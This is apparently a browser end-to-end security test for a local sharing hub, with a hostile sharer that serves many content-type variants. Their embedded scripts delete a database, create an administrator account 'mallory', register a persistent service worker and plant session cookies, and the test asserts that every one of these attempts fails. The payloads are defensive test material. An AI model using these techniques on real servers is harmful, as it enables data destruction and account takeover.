// A hostile sharer behind `loveseat open`, and a hostile site, in real browsers: whatever the sharer answers, it is no
// web page of this machine's. Its wire is e2e/evil/sharer, which answers what Loveseat never would.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { World, browsers, eventually, foreignName } from './world.mjs';

let w, hub, site, ran;
before(async () => {
  w = await World.open();
  hub = (await w.hub()).url;
  site = createServer((q, r) => {
    if (q.url.startsWith('/ran')) ran.push(decodeURIComponent(q.url.slice(5)));
    r.setHeader('Content-Type', 'text/html');
    r.end('<!doctype html><title>site</title>');
  }).listen(0, '127.0.0.1');
  await once(site, 'listening');
});
after(async () => {
  await w.close();
  site.close();
});

const url = path => `http://${foreignName}:${site.address().port}${path}`;
const root = () => new URL(hub).origin;

/** What the sharer's script does wherever it runs: all that the issue tells of, and a sign of life to its site. */
const script = (what, guarded) => `
  const tell = s => fetch(${JSON.stringify(url('/ran?'))} + encodeURIComponent(${JSON.stringify(what)} + ' ' + s), { mode: 'no-cors' });
  tell('script');
  const ask = (s, url, method, body) => fetch(url, { method, body, credentials: 'include', headers: { 'Content-Type': 'application/json' } }).then(r => r.ok && tell(s), () => {});
  ask('deletes', '${root()}/precious', 'DELETE');
  ask('administers', '${guarded}/_users/org.couchdb.user:mallory', 'PUT', '{"name":"mallory","type":"user","password":"mallory","roles":["boss"]}');
  if (self.document && navigator.serviceWorker) navigator.serviceWorker.register('/notes/sw.js', { scope: '/' }).then(() => tell('stays'), () => {});`;

/** Everything that a browser might take for more than data, by path. */
function answers(guarded) {
  const everywhere = ['Set-Cookie: AuthSession=evil; Path=/', 'Set-Cookie: AuthSession=evil; Path=/; Max-Age=99999', 'Service-Worker-Allowed: /',
    'Access-Control-Allow-Origin: *', 'Cache-Control: public, max-age=31536000, immutable', 'Content-Security-Policy: script-src *', 'ETag: "1-a"'].join('\n');
  const html = (p, open = '<html><body>') => `${open}<script>${script(p, guarded)}</script><img src="${url('/ran?' + p + ' image')}">
    <link rel="stylesheet" href="${url('/ran?' + p + ' style')}"><meta http-equiv="refresh" content="0;url=${url('/ran?' + p + ' meta')}">
    <form id="f" method="post" action="${root()}/_session"></form>`;
  const list = {
    'page.html': ['text/html', html], 'charset.html': ['text/html; charset=utf-7', html], 'comma': ['text/html, application/json', html], 'comma2': ['application/json, text/html', html],
    'twice': ['application/json\nContent-Type: text/html', html], 'odd': ['text/html;charset="', html], 'none': [undefined, html], 'empty': ['', html], 'unknown': ['x/y', html], 'star': ['*/*', html],
    'plain': ['text/plain', html], 'json': ['application/json', html], 'png': ['image/png', html],
    'x.svg': ['image/svg+xml', p => `<svg xmlns="http://www.w3.org/2000/svg"><script>${script(p, guarded).replaceAll('&', '&amp;').replaceAll('=>', '=&gt;')}</script></svg>`],
    'x.xhtml': ['application/xhtml+xml', p => `<html xmlns="http://www.w3.org/1999/xhtml"><script>//<![CDATA[\n${script(p, guarded)}\n//]]></script></html>`],
    'x.xml': ['text/xml', p => `<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>//<![CDATA[\n${script(p, guarded)}\n//]]></x:script></x:html>`],
    'mixed': ['multipart/x-mixed-replace; boundary=b', p => `--b\r\nContent-Type: text/html\r\n\r\n${html(p)}\r\n--b--\r\n`],
    'x.mht': ['message/rfc822', p => `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${html(p)}`],
    'refresh': [`text/plain\nRefresh: 0; url=${url('/ran?refresh')}`, () => 'wait'],
    'link': [`text/html\nLink: <${url('/ran?link')}>; rel=preload; as=script, <${url('/ran?link')}>; rel=stylesheet`, () => 'x'],
    'sw.js': ['text/javascript', p => `${script(p, guarded)}; onfetch = e => e.respondWith(new Response('evil for ever'))`],
    'x.js': ['text/javascript', p => script(p, guarded)], 'x.css': ['text/css', p => `@import "${url('/ran?' + p)}";`],
    'honest': ['application/json', () => '{"_id":"honest","_rev":"1-a","by":"evil"}'],
  };
  const all = Object.fromEntries(Object.entries(list).map(([p, [type, body]]) =>
    ['/' + p, [`200 OK\n${type === undefined ? '' : `Content-Type: ${type}\n`}${everywhere}`, body(p)]]));
  for (const status of [301, 302, 303, 307, 308]) all[`/${status}`] = [`${status} Moved\nContent-Type: text/html\nLocation: ${url(`/ran?${status}`)}\n${everywhere}`, html(String(status))];
  all['/401'] = [`401 No\nWWW-Authenticate: Basic realm="your password"\nContent-Type: text/html\n${everywhere}`, html('401')];
  all['/404'] = [`404 No\nContent-Type: text/html\n${everywhere}`, html('404')];
  return all;
}

/** Shares what the evil sharer answers, and opens it. */
async function openEvil(kind, guarded) {
  writeFileSync(w.path(`answers-${kind}`), JSON.stringify(answers(guarded)));
  const p = w.start('evilshare', hub, w.path(`answers-${kind}`));
  return w.open(hub, (await p.next('shared')).id);
}

/** Does something that leads to another page, and waits until that is there. */
async function leads(page, kind, fn, arg) {
  const there = kind === 'firefox' ? page.waitForNavigation({ waitUntil: 'load' }) : page.waitForEvent('load');
  await Promise.all([there, page.evaluate(fn, arg)]);
}

/** Goes where a person types, until that is shown or is a download; not every driver tells of either. */
async function types(page, to) {
  const answered = new Promise(told => page.on('response', r => r.url() === to && told(r.headers()['content-disposition'])));
  page.goto(to).catch(() => {});
  if (!await answered) await eventually(() => page.evaluate(to => location.href === to && document.readyState === 'complete', to));
  page.removeAllListeners('response');
}

for (const kind of browsers) {
  test(`${kind}: nothing of a sharer's runs, stays or changes a hub, whoever leads to it`, async () => {
    ran = [];
    await fetch(`${root()}/precious`, { method: 'PUT' });
    await fetch(`${root()}/precious/page/x.html`, { method: 'PUT', headers: { 'Content-Type': 'text/html' }, body: `<script>${script('attachment', root())}</script>` });
    const guarded = (await w.start('hubserver', '--addr', '127.0.0.1:0', '--data', w.path(`guarded-${kind}`), '--json', '--log', 'warn', '--admin', 'ann:secret').next('listening')).url;
    const evil = await openEvil(kind, guarded), paths = Object.keys(answers(guarded));

    // The administrator of a hub is logged in.
    const page = await w.page('/', kind);
    await page.goto(`${guarded}/_utils/`);
    const whoami = () => page.evaluate(async () => (await (await fetch('/_session')).json()).userCtx?.name);
    await page.evaluate(() => fetch('/_session', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{"name":"ann","password":"secret"}' }));
    assert.equal(await whoami(), 'ann');

    // A site leads there, by every way that the web knows.
    for (const path of paths) {
      await page.goto(url('/'));
      await leads(page, kind, u => { location.href = u; }, evil.url + path);
    }
    for (const path of ['/page.html', '/x.svg']) {
      await page.goto(url('/'));
      await leads(page, kind, u => {
        const f = document.body.appendChild(document.createElement('form'));
        Object.assign(f, { method: 'post', action: u }).submit();
      }, evil.url + path);
    }
    const embeds = ['/page.html', '/x.svg', '/x.js', '/x.css', '/302', '/mixed'].flatMap(p => [`<iframe src="${evil.url}${p}"></iframe>`, `<iframe sandbox="allow-scripts" src="${evil.url}${p}"></iframe>`, `<embed src="${evil.url}${p}">`, `<object data="${evil.url}${p}"></object>`,
      `<script src="${evil.url}${p}"></script>`, `<script type="module" src="${evil.url}${p}"></script>`, `<link rel="stylesheet" href="${evil.url}${p}">`, `<img src="${evil.url}${p}">`, `<link rel="prefetch" href="${evil.url}${p}">`]);
    await page.goto(url('/'));
    await page.evaluate(async all => {
      await Promise.all(all.map(html => {
        const d = document.createElement('div'), t = document.createRange().createContextualFragment(html), e = t.firstChild;
        document.body.append(d);
        return new Promise(done => {
          e.onload = e.onerror = done;
          setTimeout(done, 2000); // not all of them tell
          d.append(t);
        });
      }));
    }, embeds);

    // And people may well type it.
    const tab = await (kind === 'firefox' ? page.browserContext() : page.context()).newPage(); // of the same profile
    for (const path of [...paths, '/page.html']) await types(tab, evil.url + path);
    await types(tab, `${root()}/precious/page/x.html`);
    await types(tab, url('/'));

    assert.deepEqual(ran, []);
    assert.equal((await fetch(`${root()}/precious`)).status, 200);
    const asAnn = { headers: { Authorization: 'Basic ' + btoa('ann:secret') } };
    assert.equal((await fetch(`${guarded}/_users/org.couchdb.user:mallory`, asAnn)).status, 404);
    await page.goto(`${guarded}/_utils/`);
    assert.equal(await whoami(), 'ann', 'the session of another hub is as it was');

    // The next share at that port is not the last one's.
    const local = await w.page('/', kind);
    const byFetch = () => local.evaluate(async u => (await (await fetch(u)).json()).by, evil.url + '/honest');
    assert.equal(await byFetch(), 'evil');
    await evil.process.stop();
    await w.import(`honest-${kind}/notes`, [{ _id: 'honest', by: 'honest' }]);
    const share = await w.share(hub, `honest-${kind}/notes`, '--name', `honest ${kind}`);
    const honest = await w.open(hub, share.id, '--listen', new URL(evil.url).host);
    assert.equal(await byFetch(), 'honest');
    await types(tab, honest.url + '/honest');
    assert.match(await tab.evaluate(() => document.documentElement.textContent), /"by":\s*"honest"/, 'what a person asks for is shown');
    await local.end();
    await page.end();
  });

  test(`${kind}: a page of this machine uses an opened share by PouchDB; one of elsewhere only if it is listed`, async () => {
    const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
    await w.import(`used-${kind}/notes`, [{ _id: 'a', n: 1, _attachments: { 'x.html': { content_type: 'text/html', data: btoa('<b>hello</b>') }, 'p.png': { content_type: 'image/png', data: png } } }]);
    const share = await w.share(hub, `used-${kind}/notes`, '--name', `used ${kind}`);
    const opened = await w.open(hub, share.id), page = await w.page('/', kind);
    const seen = await page.evaluate(async url => {
      const db = new PouchDB(url, { skip_setup: true }), local = new PouchDB('copy');
      const blob = await db.getAttachment('a', 'x.html');
      const put = await db.put({ _id: 'b' });
      const rep = await local.replicate.from(db);
      const image = new Image();
      image.crossOrigin = 'anonymous';
      image.src = url + '/a/p.png';
      await image.decode();
      return { type: blob.type, text: await blob.text(), put: put.ok, docs: rep.docs_written, width: image.naturalWidth };
    }, opened.url);
    assert.deepEqual(seen, { type: 'text/html', text: '<b>hello</b>', put: true, docs: 2, width: 1 });

    const reads = async u => {
      await page.goto(url('/'));
      return page.evaluate(u => fetch(u).then(r => r.status, () => 'kept away'), u);
    };
    assert.equal(await reads(opened.url), 'kept away');
    const listed = await w.open(hub, share.id, '--origin', new URL(url('/')).origin);
    assert.equal(await reads(listed.url), 200);
    await page.goto(w.origin); // which is on loopback, but not listed
    assert.equal(await page.evaluate(u => fetch(u).then(r => r.status, () => 'kept away'), listed.url), 'kept away');
    await page.end();
  });

  test(`${kind}: a hub with accounts is for its own page and those that are listed, even on loopback`, async () => {
    const start = async (name, ...args) => (await w.start('hubserver', '--addr', '127.0.0.1:0', '--data', w.path(name), '--json', '--log', 'warn', ...args).next('listening')).url;
    const guarded = await start(`closed-${kind}`, '--admin', 'ann:secret'), listed = await start(`listed-${kind}`, '--admin', 'ann:secret', '--origin', w.origin);
    const page = await w.page('/', kind);
    for (const u of [guarded, listed]) { // the cookie is of the host, whatever the port
      await page.goto(`${u}/_utils/`);
      await page.evaluate(() => fetch('/_session', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{"name":"ann","password":"secret"}' }));
      await page.goto(w.origin);
      const get = () => page.evaluate(u => fetch(u + '/_session', { credentials: 'include' }).then(async r => (await r.json()).userCtx.name, () => 'kept away'), u);
      const put = () => page.evaluate(u => fetch(u + '/made', { method: 'PUT', credentials: 'include' }).then(r => r.status, () => 'kept away'), u);
      assert.deepEqual([await get(), await put()], u === listed ? ['ann', 201] : ['kept away', 'kept away']);
    }
    const basic = { headers: { Authorization: 'Basic ' + btoa('ann:secret') } };
    assert.equal((await fetch(guarded + '/made', basic)).status, 404);
    // What a browser sends without asking first: a form.
    await page.goto(w.origin);
    await leads(page, kind, u => {
      const f = document.body.appendChild(document.createElement('form'));
      Object.assign(f, { method: 'post', action: u + '/_session?next=/_utils/' }).submit();
    }, guarded);
    assert.match(await page.evaluate(() => document.documentElement.textContent), /forbidden/);
    await page.end();
  });
}
